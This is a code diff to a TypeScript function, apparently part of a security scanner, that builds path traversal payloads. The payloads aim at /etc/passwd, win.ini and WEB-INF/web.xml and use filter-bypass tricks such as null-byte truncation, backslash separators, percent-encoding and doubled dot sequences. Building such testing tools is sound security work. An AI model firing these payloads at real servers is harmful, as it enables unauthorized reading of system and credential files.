@@ -15,7 +15,7 @@ export interface TraversalPlace {
   readonly knownPath: string | null;
 }
 
-const PAYLOADS_MAX = 10;
+const PAYLOADS_MAX = { java: 10, other: 12 } as const;
 const PASSWD = 'etc/passwd';
 const WIN_INI = 'windows/win.ini';
 const WEB_XML = 'WEB-INF/web.xml';
@@ -37,7 +37,7 @@ export function traversalPayloads(place: TraversalPlace): string[] {
   if (/^file:/i.test(example)) payloads.unshift(fileUrl(isWindows));
   else if (/^[^/].*\//.test(folder)) payloads.unshift(folder + up(DEEP) + (isWindows ? WIN_INI : PASSWD));
   else if (folder.length > 1) payloads.splice(3, 0, folder + up(DEEP) + (isWindows ? WIN_INI : PASSWD));
-  return [...new Set(payloads)].slice(0, PAYLOADS_MAX);
+  return [...new Set(payloads)].slice(0, PAYLOADS_MAX[place.server]);
 }
 
 function unixPayloads({ example, knownPath }: TraversalPlace): string[] {
@@ -48,7 +48,11 @@ function unixPayloads({ example, knownPath }: TraversalPlace): string[] {
     // What is left when a filter has removed `../` once.
     `/${up(DEEP, '....//')}${PASSWD}`,
     `/${PASSWD}`,
-    ...(ending === '' ? [] : [`/${up(DEEP)}${PASSWD}\u0000${ending}`]),
+    // Where an ending is demanded or appended, old run-times end the name before it.
+    `/${up(DEEP)}${PASSWD}\u0000${ending}`,
+    // Filters that know `../` alone, before code that takes both separators; and Windows where no banner tells.
+    backslashes(up(DEEP) + PASSWD),
+    backslashes(up(DEEP) + WIN_INI),
     fileUrl(false),
     `%2f${up(DEEP, '%2e%2e%2f')}${PASSWD.replace('/', '%2f')}`,
     ...(knownPath === null ? [] : [`..${knownPath}`, `../..${knownPath}`]),
